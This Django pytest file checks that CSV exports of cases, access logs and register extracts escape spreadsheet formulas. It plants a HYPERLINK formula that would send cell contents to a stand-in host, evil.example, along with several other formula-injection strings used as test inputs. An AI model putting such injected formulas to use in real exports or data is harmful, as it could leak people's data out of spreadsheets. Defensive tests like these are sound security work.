"""Every CSV export neutralises spreadsheet formulas (a resident can plant one through the contact form)."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.management import call_command

from hemvag.core.actions import record_access
from hemvag.core.models import AccessPurpose, Role
from hemvag.people.models import Person

pytestmark = pytest.mark.django_db

PLANTED = '=HYPERLINK("https://evil.example/?d="&A1,"Öppna")'


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_case_list_export_writes_a_planted_formula_as_text(client, login, counsellor, case):
    Person.objects.filter(pk=case.household.main_person.pk).update(first_name=PLANTED, last_name="")
    login(counsellor)
    exported = rows(client.get("/cases/export.csv").content.decode())
    assert exported[1][0] == case.reference
    assert exported[1][1] == "'" + PLANTED  # shown by the spreadsheet as the text, never run


def test_access_log_export_and_register_extract_write_planted_text_as_text(client, login, make_user, unit, case,
                                                                            counsellor, capsys):
    person_id = case.household.main_person.pk
    for reason in ("+SUM(1,2)", "-2+3", "@SUM(A1)", "\t=1", "\r=1"):
        record_access(actor=counsellor, purpose=AccessPurpose.VIEW, object_type="case", object_id=case.pk,
                      unit=unit, person_id=person_id, reason=reason)
    login(make_user("revisor", Role.AUDITOR, unit))
    export = b"".join(client.get("/access-log/export.csv").streaming_content).decode()
    reasons = {row[-1] for row in rows(export)[1:]}
    assert reasons == {"'+SUM(1,2)", "'-2+3", "'@SUM(A1)", "'\t=1", "'\r=1"}

    call_command("access-log", "--person", str(person_id), "--format", "csv")
    extract = rows(capsys.readouterr().out)
    assert {row[-1] for row in extract[1:]} == reasons
